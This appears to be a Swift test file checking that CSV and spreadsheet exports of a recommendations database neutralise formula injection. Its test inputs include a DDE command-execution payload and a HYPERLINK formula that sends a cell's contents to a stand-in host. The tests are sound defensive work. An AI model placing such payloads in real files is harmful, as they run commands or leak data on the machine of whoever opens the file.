import Domain
import Foundation
import Ingest
import Testing

@testable import Reports

/// What anybody wrote into a form may be opened in a spreadsheet by somebody else: none of it is computed there.
@Suite("No cell of a file is a formula that somebody typed")
struct FormulaTests {
    private static let typed = [
        "=HYPERLINK(\"http://example.org/\"&A1)", "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=cmd|'/c calc'!A1",
    ]

    @Test("CSV leads each beginning of a formula with an apostrophe, in quotes, and leaves other texts alone")
    func table() {
        for text in Self.typed {
            let line = String(decoding: CSVExport.line([.text(text), .number(-5)]), as: UTF8.self)
            #expect(line == "\"'" + text.replacing("\"", with: "\"\"") + "\",-5\r\n")
        }
        for text in ["a=b", "1+1", "’=1", "", " =1"] {
            #expect(String(decoding: CSVExport.line([.text(text)]), as: UTF8.self) == text + "\r\n")
        }
        let sheet = Sheet(name: "sheet", rows: [[.text("=1")], [.text("b")]])
        #expect(String(decoding: sheet.csv.dropFirst(3), as: UTF8.self) == "\"'=1\"\r\nb\r\n")
    }

    private func read(_ write: (String) throws -> Void) throws -> [CellContent?] {
        let path = FileManager.default.temporaryDirectory.path + "/formulas-\(UUID().uuidString).xlsx"
        defer { try? FileManager.default.removeItem(atPath: path) }
        try write(path)
        return try SheetFile.read(path, name: "test").pages.flatMap(\.rows).flatMap(\.cells)
    }

    @Test("A workbook holds them as texts, word for word")
    func workbook() throws {
        let cells = try read { path in
            try SheetWorkbook.write([Sheet(name: "sheet", rows: Self.typed.map { [.text("x"), .text($0)] })], to: path)
        }
        let texts = cells.compactMap { $0 }
        #expect(texts.count == 2 * Self.typed.count && !texts.contains { $0.isFormula })
        for text in Self.typed.filter({ !$0.contains("\t") && !$0.contains("\r") }) {
            #expect(texts.contains { $0.value == .text(text) }, "\(text)")
        }
    }

    @Test("A workbook of recommendations does too")
    func recommendations() throws {
        let document = Document(
            id: DocumentID(7), symbol: DocumentSymbol("DEMO/T/1/2"), mechanism: MechanismCode("demo-upr"), cycle: 3)
        let record = ExportedRecord(
            recommendation: Recommendation(
                id: RecommendationID(5), kind: .recommendation, document: document.id,
                texts: [.english: Self.typed[0]], states: [StateCode("XAA")]),
            document: document, sources: [.uhri])
        let cells = try read { path in
            let sheet = try XLSXExport(path: path)
            sheet.add([record], .english)
            try sheet.finish()
        }
        #expect(cells.contains { $0?.value == .text(Self.typed[0]) && $0?.isFormula == false })
        #expect(!cells.contains { $0?.isFormula == true })
    }
}
